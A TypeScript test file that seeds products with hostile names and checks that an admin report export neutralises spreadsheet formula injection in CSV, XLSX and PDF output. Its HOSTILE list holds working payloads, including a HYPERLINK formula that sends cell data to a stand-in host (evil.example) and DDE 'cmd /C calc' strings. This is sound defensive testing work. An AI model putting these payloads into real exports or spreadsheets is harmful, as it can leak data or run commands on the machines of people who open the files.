import { beforeAll, describe, expect, it, vi } from "vitest";
import { strFromU8, unzipSync } from "fflate";
import { readSheet } from "read-excel-file/web-worker";
import { api, json } from "../helpers";
import { userWithRole } from "../factories";
import { insertOrder, insertProduct } from "../reports/fixtures";
import { pdfText } from "../support/pdf-text";

/** Product names a seller controls, one per trigger character of OWASP's rule. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1 tab first",
  "\r=1+1 CR first",
];
const RANGE = { from: "2043-05-01", to: "2043-05-31" };

let admin: { token: string };

beforeAll(async () => {
  admin = await userWithRole("admin");
  for (const [i, name] of HOSTILE.entries()) {
    const product = await insertProduct(name, 5);
    await insertOrder({ at: `2043-05-1${i}T10:00:00Z`, status: "paid", lines: [{ product, quantity: 1, unitPrice: 10_000 + i }] });
  }
});

async function exported(format: "csv" | "xlsx" | "pdf"): Promise<Uint8Array> {
  const queued = await json(await api("/admin/reports/exports", { token: admin.token, body: { report: "products", format, ...RANGE } }));
  const view = await vi.waitFor(
    async () => {
      const v = await json(await api(`/admin/reports/exports/${queued.id}`, { token: admin.token }));
      if (v.status !== "done") throw new Error(`export is ${v.status}`);
      return v;
    },
    { timeout: 15_000, interval: 200 },
  );
  const res = await api(view.download_url.replace("/api/v1", ""), { token: admin.token });
  expect(res.status).toBe(200);
  return new Uint8Array(await res.arrayBuffer());
}

/** RFC 4180 fields of a CSV document (quoted fields may hold commas, quotes and line breaks). */
function csvFields(text: string): string[] {
  const fields: string[] = [];
  const pattern = /("(?:[^"]|"")*"|[^,\r\n]*)(,|\r\n|$)/g;
  for (const m of text.matchAll(pattern)) {
    if (m[0] === "") break;
    const raw = m[1] ?? "";
    fields.push(raw.startsWith('"') ? raw.slice(1, -1).replace(/""/g, '"') : raw);
  }
  return fields;
}

describe("formula injection in exports", () => {
  it("csv: every hostile name leaves with a leading quote, so no cell starts a formula", async () => {
    const fields = csvFields(new TextDecoder().decode(await exported("csv")));
    for (const name of HOSTILE) expect(fields).toContain(`'${name}`);
    expect(fields.filter((f) => /^[=+\-@\t\r]/.test(f))).toEqual([]);
  });

  it("xlsx: the names are text cells, never formulas", async () => {
    const bytes = await exported("xlsx");
    const sheets = Object.entries(unzipSync(bytes)).filter(([path]) => path.startsWith("xl/worksheets/"));
    expect(sheets.length).toBeGreaterThan(0);
    for (const [, xml] of sheets) expect(strFromU8(xml)).not.toMatch(/<f[ >]/);
    // The reader trims cell text, so the leading tab and CR are compared without it.
    const cells = (await readSheet(new Blob([bytes]))).flat().map((c) => (typeof c === "string" ? c.trim() : c));
    for (const name of HOSTILE) expect(cells).toContain(name.trim());
  });

  it("pdf: the names are printed as plain text", async () => {
    const text = await pdfText(await exported("pdf"));
    expect(text).toContain("=HYPERLINK");
    expect(text).toContain("@SUM(1+1)");
  });
});
